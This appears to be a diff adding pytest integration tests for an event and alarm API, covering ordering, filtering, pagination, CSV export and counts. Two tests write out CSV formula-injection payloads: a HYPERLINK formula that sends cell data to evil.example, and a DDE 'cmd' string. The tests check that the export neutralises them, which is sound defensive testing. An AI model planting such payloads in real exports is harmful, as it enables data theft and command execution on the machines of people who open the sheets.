@@ -1,0 +1,236 @@
+"""Lists: ranges, orders, sheets for a spreadsheet, and counts."""
+
+import csv
+import io
+from datetime import UTC, datetime, timedelta
+from typing import Any
+
+import pytest
+from peewee import SqliteDatabase
+
+from telealarm.api import sheets
+from telealarm.models import Event, User
+from telealarm.store import counts, scope
+from telealarm.store.counts import Counts
+from tests.integration.api_client import Api, clinic, id_of
+from tests.lab import crowd
+
+
+async def three_events(api: Api) -> list[str]:
+    """At 10:00 on the 3rd, the 1st and the 2nd of January, in Madrid; their links."""
+    made = await clinic(api)
+    links = []
+    for day in (3, 1, 2):
+        body = {"title": f"day {day}", "calendar": made.calendar, "start": f"2030-01-0{day} 10:00"}
+        links.append((await api.made("event/", body))["url"])
+    return links
+
+
+def titles(body: dict[str, Any]) -> list[str]:
+    return [row["title"][-1] for row in body["results"]]
+
+
+def table(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+async def test_an_order_from_a_closed_set(api: Api) -> None:
+    await three_events(api)
+    for order, expected in (
+        ("", "312"),
+        ("id", "312"),
+        ("-id", "213"),
+        ("start", "123"),
+        ("-start", "321"),
+    ):
+        found = await api.get(f"event/?ordering={order}" if order else "event/")
+        assert titles(found.body) == list(expected), order
+    for order in ("title", "-", "start,id", "--start", "owner__password_hash"):
+        reply = await api.get(f"event/?ordering={order}")
+        assert reply.status == 400
+        right = "must be one of id, -id, start, -start"
+        assert reply.body == {"ordering": [right]}
+
+
+async def test_pages_keep_the_order_and_the_filters(api: Api) -> None:
+    await three_events(api)
+    first = (await api.get("event/?ordering=-start&page_size=2&status=1")).body
+    assert (first["count"], titles(first)) == (3, ["3", "2"])
+    last = (await api.get(first["next"])).body
+    assert (last["count"], titles(last), last["next"]) == (3, ["1"], None)
+    assert (await api.get(last["previous"])).body == first
+
+
+@pytest.mark.parametrize(
+    ("query", "expected"),
+    [
+        ("start=2030-01-02 10:00", "2"),
+        ("start__gte=2030-01-02 10:00", "32"),
+        ("start__gt=2030-01-02T10:00:00%2B01:00", "3"),
+        ("start__lte=2030-01-02T09:00Z", "12"),
+        ("start__lt=2030-01-02 10:00", "1"),
+        ("start__gte=2030-01-02 00:00&start__lt=2030-01-03 00:00", "2"),
+        ("end__gt=2031-01-01 00:00", ""),
+    ],
+)
+async def test_ranges_of_time_in_the_forms_of_the_api(api: Api, query: str, expected: str) -> None:
+    await three_events(api)
+    assert titles((await api.get(f"event/?{query}")).body) == list(expected)
+
+
+async def test_relations_are_ids_or_links_and_numbers_are_read_as_dialled(api: Api) -> None:
+    events = await three_events(api)
+    for number, event in (("600100200", events[0]), ("+34600100200", events[1])):
+        await api.made("alarm/", {"event": event, "alarm_phonenumber": number})
+    for query, count in (
+        (f"event={events[0]}", 1),
+        (f"event={id_of(events[0])}", 1),
+        ("alarm_phonenumber=600 100-200", 1),
+        ("alarm_phonenumber=%2B34600100200", 1),
+        ("event_start__lt=2030-01-02 00:00", 1),
+        ("event_start__gte=2030-01-01 00:00&result=0&status=1", 2),
+    ):
+        assert (await api.get(f"alarm/?{query}")).body["count"] == count, query
+    calendar = (await api.get(events[0])).body["calendar"]
+    assert (await api.get(f"event/?calendar={calendar}")).body["count"] == 3
+    assert (await api.get(f"event/?parent_event={id_of(events[0])}")).body["count"] == 0
+
+
+async def test_every_wrong_filter_is_named(api: Api) -> None:
+    query = "start__gte=tomorrow&start__gte__x=1&status=x&calendar=http://x/rest-api/event/1/"
+    reply = await api.get(f"event/?{query}&end=1066-10-14 09:00")
+    assert reply.status == 400
+    assert set(reply.body) == {"start__gte", "start__gte__x", "status", "calendar", "end"}
+    reply = await api.get("event/?format=xml")
+    assert (reply.status, reply.body) == (400, {"format": ["must be json or csv"]})
+    reply = await api.get("event/?page=0&page_size=1001")
+    assert (reply.status, set(reply.body)) == (400, {"page", "page_size"})
+
+
+async def test_a_sheet_has_the_rows_of_the_list(api: Api) -> None:
+    await three_events(api)
+    reply = await api.get("event/?format=csv&ordering=start&start__gte=2030-01-02 00:00")
+    assert reply.status == 200
+    assert reply.headers["Content-Type"] == "text/csv; charset=utf-8"
+    assert reply.headers["Content-Disposition"] == 'attachment; filename="event.csv"'
+    rows = table(reply.text)
+    listed = (await api.get("event/?format=json&ordering=start")).body["results"][1:]
+    assert [row["title"] for row in rows] == ["day 2", "day 3"]
+    for row, shown in zip(rows, listed, strict=True):
+        assert set(row) == set(shown)
+        assert (row["url"], row["start"]) == (shown["url"], shown["start"])
+        assert (row["description"], row["status"]) == ("", "1")
+    nobody = await api.get("event/?format=csv&status=2")
+    assert nobody.text.splitlines() == [reply.text.splitlines()[0]]
+
+
+async def test_a_longer_sheet_says_where_it_goes_on(api: Api) -> None:
+    await three_events(api)
+    first = await api.get("event/?format=csv&page_size=2")
+    link = first.headers["Link"]
+    assert link.endswith('; rel="next"')
+    last = await api.get(link.split(">")[0].removeprefix("<"))
+    assert "Link" not in last.headers
+    assert [row["title"] for row in table(first.text) + table(last.text)] == [
+        "day 3",
+        "day 1",
+        "day 2",
+    ]
+    assert (await api.get("event/?format=csv&page=3&page_size=2")).status == 404
+    assert (await api.get("event/?format=csv", user=None)).status == 401
+
+
+async def test_what_others_write_is_no_formula_in_a_sheet(api: Api) -> None:
+    made = await clinic(api)
+    formula = '=HYPERLINK("http://evil.example/?"&A1)'
+    body = {"title": formula, "calendar": made.calendar, "description": "\t=1+1"}
+    event = await api.made("event/", body)
+    await api.made("alarm/", {"event": event["url"], "alarm_phonenumber": "+34600100200"})
+    (row,) = table((await api.get("event/?format=csv")).text)
+    assert (row["title"], row["description"]) == (f"'{formula}", "'\t=1+1")
+    (row,) = table((await api.get("alarm/?format=csv")).text)
+    assert row["alarm_phonenumber"] == "+34600100200"
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        (None, ""),
+        (True, "true"),
+        (-5, "-5"),
+        ("-5.25", "-5.25"),
+        ("+34600100200", "+34600100200"),
+        ("+34 600+cmd|' /C calc'!A0", "'+34 600+cmd|' /C calc'!A0"),
+        ("-1+1", "'-1+1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\r=1", "'\r=1"),
+        ({"a": "ñ"}, '{"a": "ñ"}'),
+        ("plain", "plain"),
+    ],
+)
+def test_cells(value: Any, cell: str) -> None:
+    assert sheets.cell(value) == cell
+
+
+async def test_a_count_is_exact_and_sees_at_once_what_was_added(
+    api: Api, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(counts, "EXACT_TO", 2)
+    events = await three_events(api)
+    query = "event/?page_size=1"
+    assert (await api.get(query)).body["count"] == 3
+    calendar = (await api.get(events[0])).body["calendar"]
+    await api.made("event/", {"title": "another", "calendar": calendar})
+    assert (await api.get(query)).body["count"] == 4
+    await api.delete(events[1])
+    # Beyond the limit a deletion may be seen late, but the pages never lie.
+    last = (await api.get("event/?page_size=1&page=3")).body
+    assert (last["count"], last["next"]) == (3, None)
+
+
+async def test_a_kept_count_is_made_anew_after_a_minute(
+    api: Api, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(counts, "EXACT_TO", 0)
+    events = await three_events(api)
+    kept, now = Counts(), datetime(2030, 1, 1, tzinfo=UTC)
+    query = Event.select(Event.id).where(Event.deleted.is_null())
+
+    def counted(later: int) -> Any:
+        return api.db.read(lambda: kept.of(query, now + timedelta(seconds=later)))
+
+    assert await counted(0) == 3
+    await api.delete(events[0])
+    assert await counted(60) == 3
+    assert await counted(61) == 2
+
+
+EVENTS = 20_000
+
+
+async def test_the_first_page_of_a_long_list_sorts_nothing(api: Api) -> None:
+    made = await clinic(api)
+    calendar, creator = id_of(made.calendar), id_of(made.user)
+    await api.db.write(lambda: crowd.of_events(EVENTS, owner=2, creator=creator, calendar=calendar))
+    for query in ("", "&ordering=-start", "&start__gte=2030-01-02 01:00&ordering=start"):
+        for user in ("manager", "root"):
+            reply = await api.get(f"event/?page_size=10{query}", user=user)
+            assert reply.status == 200
+            assert reply.body["count"] == EVENTS - ("gte" in query) * 24 * 60
+
+    def plans() -> list[str]:
+        found: list[str] = []
+        database = Event._meta.database
+        explain = "EXPLAIN QUERY PLAN" if isinstance(database, SqliteDatabase) else "EXPLAIN"
+        for name in ("manager", "root"):
+            ids = scope.ids(User.get(User.username == name), Event)
+            for order in ((Event.id,), (Event.start.desc(), Event.id.desc())):
+                sql, values = ids.order_by(*order).limit(11).sql()
+                steps = database.execute_sql(f"{explain} {sql}", values)
+                found.extend(str(step) for step in steps)
+        return found
+
+    steps = await api.db.read(plans)
+    assert len(steps) >= 4
+    # What is not found in order by an index is sorted, on SQLite in a temporary one.
+    assert [step for step in steps if "TEMP" in step or "Sort" in step] == []
